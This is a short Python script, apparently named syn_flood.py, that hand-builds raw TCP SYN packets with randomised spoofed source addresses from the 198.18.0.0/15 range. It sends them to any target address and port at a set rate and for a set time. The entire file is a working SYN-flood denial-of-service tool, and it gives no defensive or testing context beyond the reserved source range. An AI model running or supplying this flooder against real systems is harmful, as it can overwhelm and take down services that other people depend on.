"""SYNs whose senders do not exist, of 198.18.0.0/15: syn_flood.py INTERFACE MAC ADDRESS PORT RATE SECONDS. Sends so many a
second, each from another address and port, and prints how many it sent."""
import random
import socket
import struct
import sys
import time

interface, mac, address, port, rate, seconds = sys.argv[1:]
rate, seconds = int(rate), float(seconds)
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0))
to = socket.inet_aton(address)
ether = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x08\x00"
draw = random.Random(7)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn():
    source = struct.pack("!I", 0xC6120000 | draw.getrandbits(17))
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, to)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    tcp = struct.pack("!HHIIBBHHH", draw.randrange(1024, 65536), int(port), draw.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    sum_ = checksum(source + to + struct.pack("!HH", 6, len(tcp)) + tcp)
    return ether + head + tcp[:16] + struct.pack("!H", sum_) + tcp[18:]


sent, began = 0, time.monotonic()
while (passed := time.monotonic() - began) < seconds:
    while sent < passed * rate:
        out.send(syn())
        sent += 1
    time.sleep(0.001)
print(sent)
